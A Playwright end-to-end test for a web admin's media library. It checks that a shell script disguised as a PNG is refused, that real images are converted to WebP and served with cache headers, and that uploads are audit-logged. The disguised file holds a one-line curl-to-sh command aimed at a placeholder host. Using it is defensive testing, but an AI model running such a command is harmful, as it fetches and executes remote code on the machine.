// The media library: real images are accepted and resized, disguised scripts are refused.
import { expect, test } from '@playwright/test';
import sharp from 'sharp';
import { ADMIN, createUser, signIn, signedInPage, uniqueName } from './fixtures';

test('an editor uploads an image; a script named .png is refused and the alt text is kept', async ({ browser }) => {
  const adminPage = await signedInPage(browser, ADMIN.username, ADMIN.password);
  const editor = uniqueName('me');
  await createUser(adminPage, { username: editor, displayName: '媒体编辑', role: '编辑', password: 'Editor-pass-2026' });
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, editor, 'Editor-pass-2026');
  await page.goto('/admin/media');

  await page.getByLabel('图片文件').setInputFiles({ name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n') });
  await page.locator('#field-alt').fill('志愿者在社区广场为老人测量血压');
  await page.getByRole('button', { name: '上传图片' }).click();
  await expect(page.locator('#field-file-error')).toContainText('只能上传 JPEG、PNG、WebP 或 GIF 图片');
  await expect(page.locator('#field-alt')).toHaveValue('志愿者在社区广场为老人测量血压');

  const png = await sharp({ create: { width: 1200, height: 800, channels: 3, background: '#b3161c' } }).png().toBuffer();
  await page.getByLabel('图片文件').setInputFiles({ name: 'volunteers.png', mimeType: 'image/png', buffer: png });
  await page.getByRole('button', { name: '上传图片' }).click();
  await expect(page.getByRole('status').filter({ hasText: '图片已上传。' })).toBeVisible();
  const image = page.getByRole('img', { name: '志愿者在社区广场为老人测量血压' }).first();
  await expect(image).toBeVisible();
  const src = await image.getAttribute('src');
  expect(src).toMatch(/^\/media\/[0-9a-f]{32}\/\d+\.webp$/);
  const served = await page.request.get(src!);
  expect(served.status()).toBe(200);
  expect(served.headers()['content-type']).toBe('image/webp');
  expect(served.headers()['cache-control']).toContain('immutable');

  await adminPage.goto('/admin/audit?action=media.upload');
  await expect(adminPage.getByRole('table').getByRole('row').filter({ hasText: editor })).toHaveCount(1);
  await context.close();
});
